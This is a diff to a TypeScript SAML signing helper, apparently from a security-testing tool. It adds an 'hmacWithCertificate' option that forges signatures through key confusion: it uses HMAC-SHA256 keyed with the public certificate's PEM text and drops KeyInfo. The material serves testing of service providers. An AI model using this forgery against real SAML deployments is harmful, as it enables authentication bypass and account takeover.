@@ -4,10 +4,13 @@
  * - transforms: enveloped-signature then exclusive c14n (§5.4.4); SignedInfo canonicalised with exc-c14n (§5.4.3)
  * - the ds:Signature is placed right after the element's saml:Issuer, where the schema puts it (§3.2.1, §2.3.3)
  * - KeyInfo carries the X.509 certificate (§5.4.5 allows it; SPs must still pin the key from metadata)
+ * - `hmacWithCertificate` is the key-confusion attack (../attacks/hmac-signature.ts): HMAC-SHA256 keyed with
+ *   the certificate's PEM text instead of an RSA signature, and no KeyInfo (an HMAC has no certificate)
  */
 import { SignedXml } from 'xml-crypto';
 import { ENVELOPED_SIGNATURE, EXC_C14N, SIGNATURE_ALGORITHM, type SignatureAlgorithmName } from '../namespaces.ts';
 import type { KeyPair } from '../keys/key-store.ts';
+import { HMAC_SHA256, HmacSha256, hmacKeyFromCertificate } from '../attacks/hmac-signature.ts';
 
 export interface SignElementOptions {
   /** The ID attribute value of the element to sign. */
@@ -16,16 +19,20 @@ export interface SignElementOptions {
   readonly localName: 'Response' | 'Assertion' | 'AuthnRequest' | 'EntityDescriptor';
   readonly key: KeyPair;
   readonly algorithm: SignatureAlgorithmName;
+  /** Sign with HMAC-SHA256 keyed with `key.certificatePem` (an attack), the digest still from `algorithm`. */
+  readonly hmacWithCertificate?: boolean;
 }
 
 export function signElement(xml: string, options: SignElementOptions): string {
   const alg = SIGNATURE_ALGORITHM[options.algorithm];
+  const hmac = options.hmacWithCertificate === true;
   const sig = new SignedXml({
-    privateKey: options.key.privateKeyPem,
-    publicCert: options.key.certificatePem,
-    signatureAlgorithm: alg.signature,
+    privateKey: hmac ? hmacKeyFromCertificate(options.key.certificatePem) : options.key.privateKeyPem,
+    ...(hmac ? {} : { publicCert: options.key.certificatePem }),
+    signatureAlgorithm: hmac ? HMAC_SHA256 : alg.signature,
     canonicalizationAlgorithm: EXC_C14N,
   });
+  if (hmac) sig.SignatureAlgorithms = { ...sig.SignatureAlgorithms, [HMAC_SHA256]: HmacSha256 };
   const element = `//*[local-name()='${options.localName}' and @ID='${options.id}']`;
   sig.addReference({ xpath: element, transforms: [ENVELOPED_SIGNATURE, EXC_C14N], digestAlgorithm: alg.digest });
   const hasIssuer = options.localName !== 'EntityDescriptor';
